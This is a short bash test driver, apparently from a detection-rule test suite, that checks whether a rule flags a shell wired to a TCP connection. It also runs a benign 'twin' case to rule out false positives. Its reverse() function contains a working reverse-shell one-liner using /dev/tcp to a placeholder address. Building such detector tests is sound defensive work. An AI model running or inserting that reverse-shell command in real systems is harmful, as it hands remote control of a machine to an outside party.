#!/bin/bash
# A shell whose standard input, output and error are one TCP connection to another host.
#: title: Reverse shell: standard input and output are a connection
#: technique: T1059.004
#: needs: exec
#: rules: shell_with_tcp_as_stdin
#: twin: an inetd-like daemon gives its connection to a program, and a shell reads a script from a pipe
. "$DRIVERS/lib.sh"

reverse() {
	python3 "$DRIVERS/tools/peer.py" 4444 $'id\nexit\n' &
	wait_for test -e listening
	bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444; exec bash <&3 >&3 2>&3'
	wait
}

honest() {
	python3 "$DRIVERS/tools/peer.py" 4444 -- cat &
	wait_for test -e listening
	python3 -c 'import socket; s = socket.create_connection(("203.0.113.7", 4444)); s.sendall(b"x"); s.close()'
	wait
	echo 'echo hello' | bash -s
}

attack() {
	in_own_network reverse
	did 203.0.113.7:4444
}

twin() {
	in_own_network honest
	did 203.0.113.7:4444
}

"$1"
